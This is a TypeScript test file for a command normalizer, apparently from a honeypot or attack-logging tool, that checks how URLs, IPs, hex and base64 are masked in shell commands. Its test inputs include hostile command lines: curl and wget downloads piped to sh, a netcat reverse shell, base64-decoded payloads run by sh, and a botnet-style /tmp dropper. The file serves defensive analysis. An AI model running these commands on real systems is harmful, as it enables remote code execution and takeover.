import { describe, expect, it } from 'vitest';
import { analyzeCommand, normalizeCommand } from '../../src/commands/index.js';

const B64 = 'QmFzZTY0IGVuY29kZWQgcGF5bG9hZCBmb3IgdGVzdGluZyAxMjM0NTY3ODk=';

describe('normalizeCommand', () => {
  it.each([
    ['  ls   -la \t\r\n ', 'ls -la'],
    ['wget http://1.2.3.4/x.sh; chmod +x x.sh', 'wget [URL]; chmod +x x.sh'],
    ['curl -s "https://evil.example/a?b=1&c=2" | sh', 'curl -s "[URL]" | sh'],
    ['cd /tmp && wget hxxp://x/y && tftp://h', 'cd /tmp && wget [URL] && [URL]'],
    ['echo $(curl http://x)', 'echo $(curl [URL])'],
    ['ssh root@1.2.3.4 -p 22', 'ssh root@[IP] -p 22'],
    ['nc 10.0.0.1:4444 -e /bin/sh', 'nc [IP] -e /bin/sh'],
    ['ping 2001:db8::1 ::1 fe80::1%eth0 ::ffff:1.2.3.4', 'ping [IP] [IP] [IP] [IP]'],
    ['ping [2001:db8::1]:22', 'ping [[IP]]:22'],
    ['echo 1.2.3.4.', 'echo [IP].'],
    ['sha256sum deadbeefdeadbeefdeadbeefdeadbeef', 'sha256sum [HEX]'],
    ['x 0xDEADBEEFDEADBEEF', 'x 0x[HEX]'],
    [`echo ${B64} | base64 -d | sh`, 'echo [B64] | base64 -d | sh'],
  ])('%j → %j', (input, expected) => {
    expect(normalizeCommand(input)).toBe(expected);
    expect(normalizeCommand(expected)).toBe(expected);
  });

  it('leaves look-alikes alone: versions, times, MACs, C++ scopes, short hex, long plain paths', () => {
    for (const s of [
      'apt 1.2.3.4.5',
      'date 12:34:56',
      'ip link 00:11:22:33:44:55',
      'std::cout',
      'echo deadbeef',
      'ls /usr/share/documentation/something/verylongdirectoryname',
      'echo 999.1.1.1',
      'a:1.2.3.4:5:6',
    ]) {
      expect(normalizeCommand(s)).toBe(s);
    }
  });

  it('is what analyzeCommand puts in `normalized`, computed from the original input', () => {
    expect(analyzeCommand('curl http://1.2.3.4/a | bash').normalized).toBe('curl [URL] | bash');
    expect(analyzeCommand('   ').normalized).toBe('');
  });

  it('groups the same attack with different infrastructure into one form', () => {
    const a = normalizeCommand('cd /tmp; wget http://5.6.7.8/bins.sh; chmod 777 bins.sh; sh bins.sh 5.6.7.8');
    const b = normalizeCommand('cd  /tmp;  wget https://9.9.9.9:8080/bins.sh;  chmod 777 bins.sh; sh bins.sh 9.9.9.9');
    expect(a).toBe(b);
  });

  it('is idempotent on a randomised corpus of adversarial fragments', () => {
    const fragments = [
      ' ', '\t', '\n', ':', '::', '.', '1', '12', '255', '256', '0x', 'a', 'ff', 'Zz9', '/', '+', '=', '==', '"', "'",
      '`', ';', '&&', '|', '(', ')', '[', ']', '%', 'http://', 'x://', '1://', '://', '1.2.3.4', '1.2.3.4:80',
      '2001:db8::1', 'deadbeefdeadbeef', 'AAAAB3NzaC1yc2EAAAADAQABAAABAQ', B64, '[IP]', '[HEX]',
    ];
    let seed = 12345;
    const rand = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % n;
    };
    for (let i = 0; i < 3000; i++) {
      let s = '';
      const len = 1 + rand(12);
      for (let j = 0; j < len; j++) s += fragments[rand(fragments.length)];
      const once = normalizeCommand(s);
      expect(normalizeCommand(once), JSON.stringify(s)).toBe(once);
    }
  });

  it('handles empty and non-string input without throwing', () => {
    expect(normalizeCommand('')).toBe('');
    expect(normalizeCommand(null as unknown as string)).toBe('');
  });
});
